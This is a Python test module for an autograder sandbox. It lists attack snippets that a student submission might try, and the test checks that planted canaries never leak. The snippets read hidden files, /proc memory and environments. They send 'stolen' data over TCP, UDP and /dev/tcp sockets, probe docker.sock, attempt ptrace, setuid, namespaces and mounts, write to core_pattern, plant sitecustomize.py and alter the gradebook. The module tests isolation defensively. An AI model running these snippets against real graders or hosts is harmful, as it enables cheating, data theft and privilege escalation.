"""Read what is hidden, reach other students' work, and escape.

An attack prints whatever it gets hold of; the test searches all that comes back for its canaries.
"""

from tiny_course import TOTAL

from attacks import Attack

PLACES = """
import ctypes, glob, json, os, pathlib, socket, subprocess, sys
places = json.load(open("places.json"))
def attempt(action, *args):
    try:
        result = action(*args)
        print(action, args, repr(result)[-3000:])
        return result
    except BaseException as error:
        print(action, args, "failed:", error)
"""


def reads(name: str, tries: str, code: str, **options: object) -> Attack:
    """Return an attack that prints what it can get; its second answer is right."""
    return Attack(
        name, tries, first=PLACES + code, **{"total": TOTAL, "deserves": (0, 3), **options}
    )


ATTACKS = [
    reads(
        "files_by_name",
        "reads the seed, the gradebook, references and others' submissions where they are",
        """
for path in places["secret_files"]:
    attempt(lambda path: open(path, "rb").read(), path)
    attempt(os.stat, path)
""",
    ),
    reads(
        "files_by_walking",
        "walks through everything from the root, and reads all that is small",
        """
for folder, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "usr", "site-packages", "lib")]
    if folder.count("/") > 12: folders.clear()
    for file in files:
        try:
            path = os.path.join(folder, file)
            if os.path.getsize(path) < 5000 and b"CAN" + b"ARY" in open(path, "rb").read():
                print(path, open(path).read())
        except OSError: pass
""",
    ),
    reads(
        "files_by_other_programs",
        "reads by shell, by magics and by git",
        """
for path in places["secret_files"]:
    subprocess.run(["cat", path], stderr=subprocess.STDOUT)
    get_ipython().system(f"head -c 3000 {path} | base64 -w0 | base64 -d; ls -la {path}")
    get_ipython().run_cell_magic("bash", "", f"cat {path}; dd if={path} 2>&1")
    attempt(get_ipython().run_line_magic, "run", path)
""",
    ),
    reads(
        "links",
        "makes links and hard links to what is hidden, and reads and hands over those",
        """
for i, path in enumerate(places["secret_files"]):
    attempt(os.symlink, path, f"link{i}")
    attempt(os.link, path, f"hard{i}")
    for name in (f"link{i}", f"hard{i}"):
        attempt(lambda name: open(name, "rb").read(), name)
""",
    ),
    reads(
        "proc",
        "reads environment, memory maps, files, root and folder of every process",
        """
for pid in ["self", "1", str(places["grader"]), *glob.glob("/proc/[0-9]*")]:
    base = os.path.join("/proc", pid)
    for name in ("environ", "cmdline", "maps", "mountinfo", "stack"):
        attempt(lambda path: open(path, "rb").read(), f"{base}/{name}")
    for name in ("root", "cwd"):
        for path in places["secret_files"]:
            attempt(lambda path: open(path, "rb").read(), f"{base}/{name}{path}")
    for path in glob.glob(f"{base}/fd/*") + glob.glob(f"{base}/map_files/*"):
        attempt(os.readlink, path)
""",
    ),
    reads(
        "own_memory",
        "searches its whole memory, which it has inherited, for secrets",
        """
found = set()
word = b"CAN" + b"ARY"
with open("/proc/self/mem", "rb", 0) as memory:
    for line in open("/proc/self/maps"):
        span, rights, *_ = line.split()
        if rights[:2] != "rw": continue  # the rest is files, libraries above all
        start, end = (int(x, 16) for x in span.split("-"))
        for at in range(start, end, 2**24):
            try:
                memory.seek(at)
                data = memory.read(min(2**24, end - at))
            except (OSError, ValueError, OverflowError): break
            place = data.find(word)
            while place >= 0:
                found.add(data[place:place + 40])
                place = data.find(word, place + 1)
print(found)
""",
    ),
    reads(
        "frames_and_garbage",
        "looks in all frames and all objects for expected values, seeds and questions",
        """
import gc, threading
def hunt():
    texts = []
    for frame in sys._current_frames().values():
        while frame:
            texts.append(repr({**frame.f_locals})[:20000]); frame = frame.f_back
    for thing in gc.get_objects():
        kind = type(thing).__name__
        if kind in ("Question", "KnownMistake", "Classroom", "Assignment", "Judged"):
            texts.append(repr(thing)[:2000])
        if kind == "dict" and len(thing) < 500:
            texts += [repr(v)[:200] for v in thing.values() if type(v) in (str, bytes)]
    print([text for text in texts if "CAN" + "ARY" in text or "expected=" in text])
""",
        double="def double(x): hunt()",
    ),
    reads(
        "inherited_descriptors",
        "reads and writes whatever was left open",
        """
for fd in range(3, 512):
    try:
        what = os.readlink(f"/proc/self/fd/{fd}")
        print(fd, os.fstat(fd), what)
        # Not those that wake its own kernel's threads: they might then sleep for ever.
        if "eventfd" not in what and os.lseek(fd, 0, 0) == 0: print(os.read(fd, 1000))
    except OSError: pass
    for path in places["secret_files"][:1]:
        try: print(os.read(os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=fd), 1000))
        except OSError: pass
""",
    ),
    reads(
        "environment",
        "reads the environment of the grader",
        "print(dict(os.environ)); attempt(subprocess.check_output, ['env'])\n"
        "attempt(os.system, 'export > environment.txt')\n"
        "get_ipython().run_line_magic('env', '')",
    ),
    reads(
        "network",
        "talks to servers on this machine and elsewhere, over TCP and UDP, IPv4 and IPv6",
        """
for host in ("127.0.0.1", places["host"], "localhost", "::1", "192.0.2.1"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        for family in (socket.AF_INET, socket.AF_INET6):
            def talk(host, kind, family):
                with socket.socket(family, kind) as s:
                    s.settimeout(0.2)
                    s.connect((host, places["tcp" if kind == socket.SOCK_STREAM else "udp"]))
                    s.send(b"stolen"); return s.recv(1000)
            attempt(talk, host, kind, family)
attempt(socket.gethostbyname, "example.org")
get_ipython().system(f"exec 3<>/dev/tcp/127.0.0.1/{places['tcp']}; echo stolen >&3; cat <&3")
""",
    ),
    reads(
        "sockets_by_name",
        "connects to sockets in the file system and in the abstract name space",
        """
names = [places["unix_socket"], "\\0" + places["abstract_socket"], "/run/docker.sock",
         "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"]
for name in names:
    def talk(name):
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(0.2); s.connect(name); s.send(b"stolen"); return s.recv(1000)
    attempt(talk, name)
    attempt(lambda name: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"stolen", name),
            name)
""",
    ),
    reads(
        "odd_sockets",
        "opens raw, packet, netlink and virtual-machine sockets",
        """
for family, kind, protocol in ((socket.AF_PACKET, socket.SOCK_RAW, 3), (socket.AF_INET,
    socket.SOCK_RAW, 1), (socket.AF_VSOCK, socket.SOCK_STREAM, 0), (38, socket.SOCK_SEQPACKET, 0)):
    def talk(*args):
        s = socket.socket(*args); s.settimeout(0.2)
        s.sendto(b"stolen", (2, places["tcp"])); return s.recv(1000)
    attempt(talk, family, kind, protocol)
""",
    ),
    reads(
        "shared_memory",
        "looks for shared memory, semaphores and message queues of others",
        """
libc = ctypes.CDLL(None, use_errno=True)
print(os.listdir("/dev/shm"), [open(p).read() for p in glob.glob("/proc/sysvipc/*")])
libc.shmat.restype = ctypes.c_void_p
for number in [*range(200), places["segment"]]:
    at = libc.shmat(number, None, 0o10000)
    if at and at != 2**64 - 1: print(ctypes.string_at(at, 100))
""",
    ),
    reads(
        "keyrings",
        "reads the grader's keys from the kernel's keyrings, and leaves a message there",
        """
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4000)
for ring in (-1, -2, -3, -4, -5, places["key"]):
    size = libc.syscall(250, 11, ring, buffer, 4000, 0)
    print(ring, size, buffer.raw[:max(0, size)])
    for i in range(0, max(0, size), 4):
        key = int.from_bytes(buffer.raw[i:i + 4], "little", signed=True)
        text = ctypes.create_string_buffer(4000)
        print(key, libc.syscall(250, 11, key, text, 4000, 0), text.raw[:200])
print("key left:", libc.syscall(248, b"user", b"lepton-attack", b"stolen", 6, -3))
""",
    ),
    reads(
        "other_processes",
        "attaches to other processes and reads their memory",
        """
libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid(), places["grader"], *range(2, 100)):
    print(pid, libc.ptrace(16, pid, None, None))
    attempt(lambda pid: os.pidfd_open(pid), pid)
    attempt(lambda pid: open(f"/proc/{pid}/mem", "rb").read(1), pid)
if not os.fork():
    libc.ptrace(0, 0, 0, 0)
""",
    ),
    reads(
        "more_rights",
        "becomes another user, makes namespaces, mounts, changes its root",
        """
libc = ctypes.CDLL(None, use_errno=True)
for action in (os.setuid, os.setgid, lambda n: os.setgroups([n])): attempt(action, 0)
for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000):
    print("unshare", hex(flag), libc.unshare(flag))
for what in (["su", "-c", "id"], ["sudo", "-n", "id"], ["unshare", "-Ur", "id"],
             ["nsenter", "-t", "1", "-a", "id"], ["mount", "-t", "tmpfs", "x", "/mnt"]):
    attempt(lambda what: subprocess.run(what, capture_output=True, timeout=1), what)
print("mount", libc.mount(b"proc", os.getcwd().encode(), b"proc", 0, None))
attempt(os.chroot, "..")
print("mknod", libc.mknod(b"disk", 0o60600, 0xfd00))
print("umount", libc.umount2(b"/proc", 2))
attempt(lambda: open("/proc/sys/user/max_user_namespaces", "w").write("9"))
attempt(lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/bin/cp"))
attempt(lambda: open("/proc/self/uid_map", "w").write("0 0 1"))
attempt(lambda: open("/proc/sysrq-trigger", "w").write("h"))
""",
    ),
    reads(
        "handles_and_rings",
        "opens files by handle, by io_uring and by other system calls that few know",
        """
libc = ctypes.CDLL(None, use_errno=True)
head = b"\\x08\\0\\0\\0\\x01\\0\\0\\0"
handle = ctypes.create_string_buffer(head + (2).to_bytes(8, "little"), 64)
print("open_by_handle_at", libc.syscall(304, -100, handle, 0))
for name, number in (("bpf", 321), ("perf_event_open", 298), ("userfaultfd", 323),
                     ("io_uring_setup", 425), ("init_module", 175), ("kexec_load", 246),
                     ("fsopen", 430), ("move_mount", 429), ("open_tree", 428)):
    print(name, libc.syscall(number, 0, 0, 0, 0, 0))
""",
    ),
    reads(
        "changed_programs",
        "changes the course, the grader and the packages that the next kernel will import",
        """
for folder in places["code_folders"]:
    for name in ("lepton_attack.pth", "sitecustomize.py", "usercustomize.py", "lepton_attack.py"):
        attempt(lambda path: open(path, "w").write("import os"), os.path.join(folder, name))
""",
    ),
    reads(
        "changed_grades",
        "writes to the gradebook, the roster and its own graded notebook",
        """
import sqlite3
for path in places["secret_files"]:
    attempt(lambda path: open(path, "a").write("stolen"), path)
    attempt(os.unlink, path)
def write(path):
    with sqlite3.connect(path) as gradebook:
        gradebook.execute("update grade set manual_score = 3")
attempt(write, places["gradebook"])
attempt(os.makedirs, os.path.join(places["class"], "autograded/changed_grades/small_sums"))
""",
    ),
    reads(
        "left_for_the_next",
        "leaves files, links and locks for a later submission to find",
        """
import fcntl
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), "..", "../..",
               os.path.dirname(places["class"]), sys.prefix, "/dev", "/"):
    attempt(lambda path: open(path, "w").write("stolen"), os.path.join(folder, "lepton_attack"))
attempt(os.listdir, "../..")
attempt(os.rename, "..", "../../lepton_attack")
""",
    ),
    reads(
        "other_submissions",
        "looks into the scratch folders of submissions that run at the same time",
        """
for pattern in ("../../*", "../../*/*", "../../*/w*/*", "/tmp/*", "/tmp/lepton-*/*/w*/*",
                places["scratch"] + "/*/*/*"):
    for path in glob.glob(pattern):
        if os.path.isfile(path): print(path, open(path, "rb").read(2000))
        else: print(path)
""",
    ),
]
